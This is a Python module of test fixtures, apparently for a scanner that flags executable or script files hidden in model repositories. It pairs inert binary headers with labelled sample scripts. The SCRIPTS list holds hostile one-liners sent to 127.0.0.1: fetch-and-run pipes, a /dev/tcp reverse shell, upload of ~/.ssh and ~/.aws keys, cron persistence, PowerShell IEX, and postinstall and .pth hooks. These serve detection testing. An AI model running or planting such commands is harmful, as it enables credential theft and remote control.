"""Programs: native, byte code and scripts. Only heads of programs and lines of script, and nothing that harms."""

import struct

from cases import noise


def make(cases):
    family = cases.family("native")
    for case, file, data, note in PROGRAMS():
        family.malicious(case, file, data, note)
    for case, file, data, note in dual_use():
        family.suspicious(case, file, data, note)
    family.benign("script-train", "train.sh", "#!/usr/bin/env bash\nset -e\npython train.py --epochs 3 --lr 5e-5\n", "an ordinary script to start training", complete=False)
    family.benign("script-train-batch", "train.bat", "@echo off\r\npython train.py\r\n", "an ordinary batch file", complete=False)
    for case, file, text, label, note in SCRIPTS:
        family.labelled(label, f"script-{case}", file, text, note)


def elf(kind=3, machine=62, bits=2, endian="<"):
    """The first bytes of an ELF file, with one loaded segment and nothing that runs."""
    order = 1 if endian == "<" else 2
    if bits == 2:
        head = b"\x7fELF" + bytes([2, order, 1]) + bytes(9) + struct.pack(endian + "HHIQQQIHHHHHH", kind, machine, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0)
        return head + struct.pack(endian + "IIQQQQQQ", 1, 5, 0, 0, 0, 128, 128, 4096) + bytes(64)
    return b"\x7fELF" + bytes([1, order, 1]) + bytes(9) + struct.pack(endian + "HHIIIIIHHHHHH", kind, machine, 1, 0, 52, 0, 0, 52, 32, 1, 40, 0, 0) + bytes(96)


def pe(machine=0x8664, library=False):
    """The first bytes of a Windows program."""
    dos = b"MZ" + bytes(58) + struct.pack("<I", 128) + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd!This program cannot be run in DOS mode.\r\r\n$".ljust(64, b"\0")
    return dos + b"PE\0\0" + struct.pack("<HHIIIHH", machine, 1, 0, 0, 0, 240, 0x2022 if library else 0x22) + b"\x0b\x02" + bytes(300)


def mach(magic=0xFEEDFACF, cpu=0x01000007, endian="<"):
    return struct.pack(endian + "IIIIIIII", magic, cpu, 3, 2, 1, 72, 0x85, 0) + struct.pack(endian + "II", 0x19, 72) + b"__TEXT".ljust(16, b"\0") + bytes(48)


def fat():
    return struct.pack(">II", 0xCAFEBABE, 1) + struct.pack(">IIIII", 0x01000007, 3, 4096, 128, 12) + bytes(4068) + mach()


def java():
    return b"\xca\xfe\xba\xbe" + struct.pack(">HHH", 0, 52, 5) + b"\x01\0\x04Main\x07\0\1\x01\0\x10java/lang/Object\x07\0\3" + struct.pack(">HHHHHHH", 0x21, 2, 4, 0, 0, 0, 0)


def PROGRAMS():
    return [
        ("elf", "run", elf(2), "a Linux program without an extension"),
        ("elf-so", "libops.so", elf(), "a Linux library"),
        ("elf-named-bin", "model.bin", elf(), "a Linux library under the name of weights"),
        ("elf-arm", "libgomp.so.1", elf(machine=183), "a library for ARM"),
        ("elf-32", "tool", elf(bits=1), "a program of 32 bits"),
        ("elf-big-endian", "tool", elf(endian=">"), "a program in big-endian order"),
        ("elf-named-txt", "vocab.txt", elf(2), "a program under the name of a vocabulary"),
        ("elf-extension", "_C.cpython-311-x86_64-linux-gnu.so", elf(), "a Python extension module"),
        ("kernel-module", "driver.ko", elf(1), "an object file"),
        ("pe", "setup.exe", pe(), "a Windows program"),
        ("pe-dll", "ops.dll", pe(library=True), "a Windows library"),
        ("pe-pyd", "_ops.pyd", pe(library=True), "a Python extension for Windows"),
        ("pe-named-dat", "weights.dat", pe(0x14C), "a Windows program under the name of data"),
        ("pe-screensaver", "photo.jpg.scr", pe(), "two extensions, the last of them a program's"),
        ("mach-o", "tool", mach(), "a macOS program"),
        ("mach-o-arm", "libops.dylib", mach(cpu=0x0100000C), "a macOS library for ARM"),
        ("mach-o-32", "tool", mach(0xFEEDFACE, 7), "a macOS program of 32 bits"),
        ("mach-o-swapped", "tool", mach(0xFEEDFACF, 0x01000007, ">"), "a macOS program in the other byte order"),
        ("mach-o-fat", "libops.dylib", fat(), "a macOS library for several machines"),
        ("msi", "setup.msi", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "an installer of Windows"),
        ("deb", "tool.deb", b"!<arch>\ndebian-binary   0           0     0     100644  4         `\n2.0\n", "a package of Debian"),
        ("static", "libops.a", b"!<arch>\na.o/            0           0     0     644     200       `\n" + elf(1), "a static library"),
        ("shortcut", "readme.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(8) + b"\xc0\0\0\0\0\0\0F" + bytes(60), "a Windows shortcut"),
    ]


def dual_use():
    return [
        ("wasm", "ort-wasm.wasm", b"\0asm\1\0\0\0\1\4\1\x60\0\0", "WebAssembly: runs in a sandbox, where somebody loads it"),
        ("java-class", "Main.class", java(), "Java byte code"),
        ("dex", "classes.dex", b"dex\n035\0" + noise(104, 5), "Android byte code"),
        ("python-bytecode", "modeling_net.cpython-311.pyc", b"\xa7\r\r\n" + bytes(12) + b"\xe3" + noise(60, 6), "Python byte code without its source"),
        ("llamafile", "model.llamafile", b"MZqFpD='\n" + pe()[10:] + b"#!/bin/sh\n", "a llamafile: weights which are a program by design"),
        ("llamafile-second", "model-q4.llamafile", b"jartsr='\n" + bytes(200), "a llamafile in its second form"),
        ("cuda", "kernel.cubin", elf(2, 190), "compiled CUDA kernels"),
        ("ptx", "kernel.ptx", b".version 7.0\n.target sm_70\n.address_size 64\n.visible .entry k()\n{\n ret;\n}\n", "CUDA kernels as text"),
        ("tensorrt", "model.engine", b"ftrt" + noise(200, 7), "a TensorRT engine: holds compiled kernels"),
        ("metal", "kernels.metallib", b"MTLB" + noise(96, 4), "compiled Metal kernels"),
        ("llvm", "kernel.bc", b"BC\xc0\xde" + noise(60, 8), "LLVM byte code"),
        ("lua", "model.luac", b"\x1bLua\x53\0" + noise(60, 9), "Lua byte code"),
    ]


SCRIPTS = [
    ("shell-fetch", "install.sh", "#!/bin/sh\ncurl -fsSL http://127.0.0.1/x.sh | sh\n", "malicious", "a script that runs what it fetches"),
    ("shell-reverse", "run.sh", "#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n", "malicious", "a shell for somebody else"),
    ("shell-no-line", "start", "curl http://127.0.0.1/x -o /tmp/x && chmod +x /tmp/x && /tmp/x\n", "malicious", "a script without a first line and without an extension"),
    ("shell-base64", "setup.sh", "#!/bin/sh\necho ZWNobyB3ZWlnaGJyaWRnZQ== | base64 -d | sh\n", "malicious", "a script that decodes and runs"),
    ("shell-keys", "prepare.sh", "#!/bin/sh\ntar cz ~/.ssh ~/.aws | curl -F f=@- http://127.0.0.1/\n", "malicious", "a script that sends keys away"),
    ("shell-cron", "env.sh", "#!/bin/sh\n(crontab -l; echo '* * * * * curl http://127.0.0.1/x|sh') | crontab -\n", "malicious", "a script that stays"),
    ("powershell", "setup.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/x.ps1')\n", "malicious", "PowerShell that runs what it fetches"),
    ("powershell-encoded", "run.ps1", "powershell -NoProfile -EncodedCommand ZQBjAGgAbwAgADEA\n", "malicious", "PowerShell with an encoded command"),
    ("batch", "setup.bat", "@echo off\r\ncertutil -urlcache -f http://127.0.0.1/x.exe x.exe && x.exe\r\n", "malicious", "a batch file that fetches and runs a program"),
    ("vbscript", "open.vbs", 'CreateObject("WScript.Shell").Run "cmd /c echo weighbridge"\r\n', "malicious", "VBScript that runs a command"),
    ("jscript", "open.js", 'new ActiveXObject("WScript.Shell").Run("cmd /c echo weighbridge");\n', "malicious", "JScript that runs a command"),
    ("hta", "readme.hta", '<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>\n', "malicious", "an HTML application"),
    ("perl", "convert.pl", "#!/usr/bin/perl\nsystem('echo weighbridge');\n", "suspicious", "a Perl script that runs a command"),
    ("node", "postinstall.js", "require('child_process').execSync('curl http://127.0.0.1/x | sh')\n", "malicious", "a script for Node that runs what it fetches"),
    ("ruby", "run.rb", "#!/usr/bin/env ruby\n`echo weighbridge`\n", "suspicious", "a Ruby script that runs a command"),
    ("makefile", "Makefile", "all:\n\tcurl http://127.0.0.1/x | sh\n", "malicious", "a makefile that runs what it fetches"),
    ("dockerfile", "Dockerfile", "FROM scratch\nRUN curl http://127.0.0.1/x | sh\n", "malicious", "a Dockerfile that runs what it fetches"),
    ("desktop", "readme.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c 'echo weighbridge'\n", "malicious", "a desktop entry that runs a command"),
    ("pth", "site.pth", "import os; os.system('echo weighbridge')\n", "malicious", "a path file which Python runs at every start"),
]
